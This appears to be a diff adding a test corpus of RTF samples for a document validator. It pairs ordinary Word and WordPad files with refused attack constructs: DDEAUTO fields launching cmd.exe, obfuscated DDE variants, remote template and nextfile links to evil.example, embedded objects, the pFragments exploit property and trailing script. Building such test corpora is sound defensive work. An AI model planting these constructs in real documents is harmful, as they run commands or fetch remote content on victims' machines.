@@ -1,0 +1,93 @@
+import { text } from '../sample-files.ts';
+import { corpusFile, refused } from './corpus-file.ts';
+
+function rtf(content: string): Buffer {
+  return text(`{\\rtf1\\ansi\\ansicpg1250{\\fonttbl{\\f0\\froman Arial;}}${content}\\par}`);
+}
+
+/** Rich texts, as programs make them and as attackers do. */
+export const rtfFiles = [
+  corpusFile(
+    'word.rtf',
+    'rtf',
+    'With the XML that Word keeps beside the text, page numbers, a link',
+    'Known groups and fields',
+    () =>
+      rtf(
+        '{\\*\\generator Microsoft Word;}{\\*\\datastore 0105000002000000180000004d73786d6c322e534158584d4c5265616465722e362e3000}{\\field{\\*\\fldinst PAGE }{\\fldrslt 1}}{\\field{\\*\\fldinst { HYPERLINK "https://jana.example"}}{\\fldrslt web}}\\u382?lu\\\'9d',
+      ),
+  ),
+  corpusFile('wordpad.rtf', 'rtf', 'As WordPad and TextEdit save it', 'Known groups', () =>
+    rtf('{\\*\\generator Riched20 10.0}{\\*\\expandedcolortbl;;}{\\pict\\pngblip\\bin4 {{{{}Jana'),
+  ),
+  corpusFile(
+    'really-rich.doc',
+    'rtf',
+    'A rich text under the name of a Word document',
+    'It gets the name of what it is',
+    () => rtf('Jana'),
+  ),
+  refused('dde.rtf', 'A field that starts a program (DDEAUTO)', 'Not on the list of fields', () =>
+    rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k calc"}{\\fldrslt x}}'),
+  ),
+  refused(
+    'dde-split.rtf',
+    'The same, in groups and as numbers of letters',
+    'Codes are put together first',
+    () => rtf("{\\field{\\*\\fldinst {D}{\\'44}{\\b E}AUTO cmd}{\\fldrslt x}}"),
+  ),
+  refused(
+    'dde-behind-group.rtf',
+    'The same behind a harmless code in a group that readers pass over',
+    'A code has nothing in it but its letters',
+    () => rtf('{\\field{\\*\\fldinst {\\*\\generator PAGE }DDEAUTO cmd}{\\fldrslt x}}'),
+  ),
+  refused(
+    'dde-behind-number.rtf',
+    'The same behind the number of a letter, for which readers pass over the harmless code',
+    'A code has no numbers of letters',
+    () => rtf('{\\field{\\*\\fldinst\\uc5\\u32 PAGE DDEAUTO cmd}{\\fldrslt x}}'),
+  ),
+  refused(
+    'dde-told-twice.rtf',
+    'The same before a second, harmless code',
+    'A code is told once',
+    () => rtf('{\\field{\\*\\fldinst DDEAUTO cmd \\fldinst PAGE}{\\fldrslt x}}'),
+  ),
+  refused('next-file.rtf', 'A further text on a server', 'All content has to be inside', () =>
+    rtf('{\\nextfile \\\\\\\\evil.example\\\\a.rtf}'),
+  ),
+  refused('remote-template.rtf', 'A template on a server', 'Templates are refused', () =>
+    rtf('{\\*\\template https://evil.example/a.dotm}'),
+  ),
+  refused('object.rtf', 'An object of another program', 'Objects are refused', () =>
+    rtf('{\\object\\objemb{\\*\\objdata 0105000002000000}}'),
+  ),
+  refused(
+    'fragments.rtf',
+    'A shape with the property that took over Word 2003 to 2010 (pFragments)',
+    'This property is refused',
+    () => rtf('{\\shp{\\sp{\\sn pFragments}{\\sv 1;1;ffff}}}'),
+  ),
+  refused(
+    'remote-shape.rtf',
+    'A shape with a picture on a server',
+    'All content has to be inside',
+    () => rtf('{\\shp{\\sp{\\sn pibName}{\\sv https://evil.example/a.png}}}'),
+  ),
+  refused('unknown-group.rtf', 'A group that no usual program writes', 'Only known groups', () =>
+    rtf('{\\*\\unheardof x}'),
+  ),
+  refused(
+    'started-class.rtf',
+    'Data of a class other than Word’s own, which is started to read them',
+    'Only Word’s own',
+    () => rtf('{\\*\\datastore 0105000002000000080000004f7574707574}'),
+  ),
+  refused(
+    'page-after.rtf',
+    'A page of the web after the last brace',
+    'Nothing may follow the end',
+    () => Buffer.concat([rtf('Jana'), text('<script>x()</script>}')]),
+  ),
+];
